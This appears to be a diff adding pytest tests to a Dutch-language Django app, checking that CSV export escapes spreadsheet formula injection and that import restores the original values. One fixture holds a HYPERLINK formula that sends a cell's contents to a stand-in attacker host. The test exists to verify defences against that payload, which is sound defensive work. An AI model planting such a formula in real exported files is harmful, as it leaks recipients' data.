@@ -300,3 +300,48 @@ def test_import_command_check_only_and_then_for_real(db, tmp_path, capsys):
     assert "0 nieuw, 0 gewijzigd, 2 ongewijzigd" in capsys.readouterr().out
     with pytest.raises(CommandError):
         call_command("import_diensten", str(tmp_path / "bestaat-niet.csv"))
+
+
+FORMULES = {
+    "naam": '=HYPERLINK("http://evil.example/?d="&A2,"Klik")',
+    "samenvatting": "+31 is het landnummer; -- en @ horen erbij.",
+    "aanbieder": "@Welzijn",
+    "voorwaarden": "-alleen 65+",
+    "kosten_toelichting": "'=al met apostrof",
+    "plaats": "'s-Hertogenbosch",
+}  # a leading tab or CR is escaped too (tests/production/test_spreadsheet.py); the import trims
+
+
+def test_export_escapes_formulas_and_import_takes_the_escape_off(db, tmp_path):
+    DienstFactory(extern_id="formule-1", **FORMULES)
+    DienstFactory(extern_id="concept-1", naam="=1+1", live=False)
+    target = tmp_path / "export.csv"
+    call_command("export_diensten", str(target), "--puntkomma", verbosity=0)
+    data = target.read_bytes()
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
+    assert [row["extern_id"] for row in rows] == ["formule-1"]  # the draft is left out
+    rij = rows[0]
+    assert rij["naam"] == "'" + FORMULES["naam"]
+    assert rij["kosten_toelichting"] == "''=al met apostrof"
+    assert rij["plaats"] == "'s-Hertogenbosch"
+    assert not [cel for cel in rij.values() if cel.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    before = snapshot()
+    assert lees_csv(data).ongewijzigd == 1  # the same values: nothing would change
+    Dienst.objects.filter(extern_id="formule-1").delete()
+    importeer(data)
+    dienst = Dienst.objects.get(extern_id="formule-1")
+    assert {veld: getattr(dienst, veld) for veld in FORMULES} == FORMULES
+    assert {**snapshot()["formule-1"], "id": None, "url": None} == {
+        **before["formule-1"],
+        "id": None,
+        "url": None,
+    }
+
+
+def test_export_command_with_drafts_only_when_asked(db, tmp_path):
+    DienstFactory(extern_id="live-1")
+    DienstFactory(extern_id="concept-1", live=False)
+    target = tmp_path / "export.csv"
+    call_command("export_diensten", str(target), "--met-concepten", verbosity=0)
+    rows = list(csv.DictReader(io.StringIO(target.read_text("utf-8"))))
+    assert sorted(row["extern_id"] for row in rows) == ["concept-1", "live-1"]
